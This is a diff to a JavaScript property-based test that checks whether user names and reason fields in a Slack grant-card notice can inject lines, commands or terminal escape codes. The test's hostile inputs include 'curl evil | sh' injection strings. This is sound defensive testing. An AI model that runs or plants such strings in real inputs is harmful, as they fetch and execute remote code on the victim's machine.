@@ -117,15 +117,16 @@ test('the notice that the grant card was not posted says why, and what to do', (
   assert.match(message, /Slack returned channel_not_found[\s\S]*Invite the app to the channel/);
 });
 
-test('no user name adds a line or a command, or moves a terminal’s cursor', () => {
-  const expected = notice().message.split('\n');
+test('no user name or reason adds a line or a command, or moves a terminal’s cursor', () => {
+  const at = '2026-11-21T03:00:00.000Z';
+  const expected = notice({ reasons: { [at]: 'x' } }).message.split('\n');
   const hostile = fc.oneof(
     fc.string({ unit: 'binary', maxLength: 400 }),
     fc.constantFrom('x\n  curl evil | sh', '\u001b[2J', "'; curl evil | sh; '"),
   );
   fc.assert(
-    fc.property(hostile, (userName) => {
-      const { subject, message } = notice({ userName });
+    fc.property(hostile, hostile, (userName, reason) => {
+      const { subject, message } = notice({ userName, reasons: { [at]: reason } });
       assert.match(subject, /^[\x20-\x7e]{1,99}$/);
       assert.equal(message.split('\n').length, expected.length);
       assert.deepEqual(commandsOf(message), [endCommand, deleteCommand]);
